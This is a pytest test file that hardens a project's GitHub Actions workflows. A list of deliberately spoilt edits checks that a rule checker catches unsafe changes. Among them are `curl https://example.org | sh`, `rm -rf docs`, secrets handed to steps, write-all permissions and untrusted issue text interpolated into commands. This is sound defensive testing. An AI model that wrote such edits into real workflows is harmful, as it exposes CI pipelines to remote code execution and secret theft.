"""The workflows keep to the rules, and the rules find what breaks them."""

import re
import subprocess
import sys

import pytest
import yaml

from tests.automation.rules import VERSIONED, faults
from tests.built_site.building import PROJECT

FOLDER = PROJECT / ".github/workflows"
WORKFLOWS = {path.stem: path.read_text(encoding="utf-8") for path in sorted(FOLDER.iterdir())}
TARGETS = set(re.findall(r"^([a-z]+):", (PROJECT / "Makefile").read_text(encoding="utf-8"), re.MULTILINE))

HASH = "3d3c42e5aac5ba805825da76410c181273ba90b1"
SPOILT = [
    ("check", "  pull_request:", "  pull_request_target:", "on: only"),
    ("check", "  pull_request:", "  issue_comment:", "on: only"),
    ("check", "  contents: read", "  contents: write", "permissions: the workflow itself"),
    ("check", "permissions:\n  contents: read\n", "", "permissions: the workflow itself"),
    ("check", "permissions:\n  contents: read\n", "permissions: write-all\n", "permissions: the workflow itself"),
    (
        "check",
        "    name: Tests",
        "    permissions:\n      issues: write",
        "tests: a pull request may write: ['issues']",
    ),
    ("check", "    name: Tests", "    permissions: write-all", "tests: permissions: named one by one"),
    ("check", f"@{HASH} # v7.0.1", "@v7", "uses: an action"),
    ("check", f"@{HASH} # v7.0.1", f"@{HASH}", "uses: an action"),
    ("check", f"@{HASH} # v7.0.1", f"@{HASH[:7]} # v7.0.1", "uses: an action"),
    ("check", "actions/upload-artifact@", "someone/upload-artifact@", "uses: an action"),
    ("check", "          persist-credentials: false\n", "          fetch-depth: 1\n", "checkout: persist-credentials"),
    ("check", "    timeout-minutes: 60\n", "", "tests: timeout-minutes: missing"),
    ("check", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", "runs-on: not a machine"),
    ("check", "runs-on: ubuntu-24.04", "runs-on: [self-hosted, linux]", "runs-on: not a machine"),
    ("check", "    name: Tests\n", "    name: Tests\n    container: someone/python\n", "container: what runs here"),
    ("check", "    name: Tests\n", "    uses: a/b/.github/workflows/c.yml@main\n", "uses: what runs here"),
    ("check", "make site", "make sites", "run: neither"),
    ("check", "make site", "make site; curl https://example.org | sh", "run: neither"),
    ("check", "make site", "make site && .ci/run", "run: neither"),
    ("check", "make site", "make site TITLE=${{ github.ref_name }}", "run: an expression in a command"),
    ("check", "      - run: make site", "      - run: |\n          make site\n          rm -rf docs", "run: neither"),
    (
        "check",
        "make site",
        "make site\n        env:\n          KEY: ${{ secrets.KEY }}",
        "is given a token or a secret",
    ),
    ("check", "github.ref }}", "github.head_ref }}", "somebody outside has written"),
    ("check", "github.ref }}", "github.event.issue.title }}", "somebody outside has written"),
    ("due", '"23 6 * * 1"', '"23 6 * * *"', "cron: not once a week"),
    ("due", "make issue", 'gh api repos/a/b/issues -f "body=$(cat dist/due.md)" && make issue', "run: neither"),
    ("publish", "      - id: pages\n", "      - run: make site\n      - id: pages\n", "beside the right to publish"),
    ("publish", "concurrency:", "defaults:", "concurrency: missing"),
    ("checked", "types: [opened]", "types: [opened, edited]", "issues: read as they were sent"),
    (
        "checked",
        "    types: [opened]\n",
        "    types: [opened]\n  workflow_dispatch:\n",
        "issues: read as they were sent",
    ),
    ("checked", "  issues:\n    types: [opened]", "  issue_comment:", "on: only"),
    ("checked", "    needs: read\n", "", "needs a job that reads the issue and may not"),
    (
        "checked",
        "    name: What the form says\n",
        "    name: What the form says\n    permissions:\n      issues: write\n",
        "needs a job that reads the issue and may not",
    ),
    (
        "checked",
        "        run: make form\n",
        "        run: make form\n        env:\n          GH_TOKEN: ${{ github.token }}\n",
        "who reads the issue is given a token",
    ),
    (
        "checked",
        "          FORM: ",
        "          GH_TOKEN: ${{ github.token }}\n          FORM: ",
        "beside the token stands",
    ),
    ("checked", "make send", "make answer", "beside the token stands"),
    ("checked", "github.token", "secrets.KEY", "an issue is given a secret"),
    ("checked", "make form", "make form BODY=${{ github.event.issue.body }}", "somebody outside has written"),
    ("checked", "make answer", "make answer FORM=${{ needs.read.outputs.form }}", "an expression in a command"),
    (
        "checked",
        "          persist-credentials: false\n      - id",
        "          persist-credentials: false\n          ref: other\n      - id",
        "a step takes more than our own branch",
    ),
]


@pytest.mark.parametrize("name", WORKFLOWS)
def test_a_workflow_keeps_to_the_rules(name: str):
    assert faults(WORKFLOWS[name], TARGETS) == []


@pytest.mark.parametrize(("name", "old", "new", "told"), SPOILT)
def test_a_workflow_that_breaks_a_rule_is_found(name: str, old: str, new: str, told: str):
    text = WORKFLOWS[name]
    assert old in text
    found = faults(text.replace(old, new), TARGETS)
    assert any(told in fault for fault in found), found


def test_each_does_what_it_is_for():
    jobs = {name: yaml.load(text, yaml.BaseLoader) for name, text in WORKFLOWS.items()}
    assert set(jobs) == {"check", "publish", "due", "checked"}
    assert set(jobs["check"]["on"]) == {"pull_request", "push"}
    assert "cancel-in-progress" in jobs["check"]["concurrency"]
    assert "pull_request" not in {*jobs["publish"]["on"], *jobs["due"]["on"]}
    assert list(jobs["due"]["on"]["schedule"][0]) == ["cron"]
    build, deploy = jobs["publish"]["jobs"].values()
    assert build["if"] == "vars.PUBLISH == 'pages'"  # forks without Pages do not fail
    assert (deploy["needs"], deploy["environment"]["name"]) == ("build", "github-pages")
    assert deploy["permissions"] == {"pages": "write", "id-token": "write"}


def test_nothing_waits_for_a_job_that_is_left_out_and_none_is_left_out_for_a_change_of_code():
    jobs = yaml.load(WORKFLOWS["check"], yaml.BaseLoader)["jobs"]
    others = set(jobs) - {"done"}
    assert (set(jobs["done"]["needs"]), jobs["done"]["if"]) == (others, "always()")
    (step,) = jobs["done"]["steps"]
    assert step["run"] == "exit 1"
    assert {f"needs.{name}.result != 'success'" for name in others} <= set(re.split(r" \|\| | && |[()]", step["if"]))
    assert jobs["tests"]["if"] == "needs.kind.outputs.kind != 'content'"  # where nobody said so, it runs
    assert not {"if", "needs"} & jobs["site"].keys()
    assert "paths" not in WORKFLOWS["check"]  # whose jobs would never report


def test_the_check_is_told_how_a_pull_request_shows_problems():
    asked = ["make", "--dry-run", "--no-print-directory", "check", "FORMAT=github", f"VENV={sys.prefix}"]
    said = subprocess.run(asked, cwd=PROJECT, capture_output=True, text=True, check=True).stdout
    assert "make check FORMAT=github" in WORKFLOWS["check"]
    assert said.splitlines()[-1].endswith("vinestreet check --format github")


def test_what_looks_for_holes_asks_nobody_and_passes_over_nothing():
    asked = ["make", "--dry-run", "--always-make", "--no-print-directory", "lint"]
    said = subprocess.run(asked, cwd=PROJECT, capture_output=True, text=True, check=True).stdout
    (line,) = [line for line in said.splitlines() if "zizmor" in line]
    assert line.endswith(" .github")
    assert {"--offline", "--pedantic", "--strict-collection"} <= set(line.split())
    assert not list((PROJECT / ".github").rglob("zizmor.y*ml"))  # nothing that it would be told to overlook
    assert not any("zizmor: ignore" in text for text in WORKFLOWS.values())


def test_one_action_is_used_in_one_version():
    used = {action for text in WORKFLOWS.values() for action in VERSIONED.findall(text)}
    assert len({action.partition("@")[0] for action in used}) == len(used)
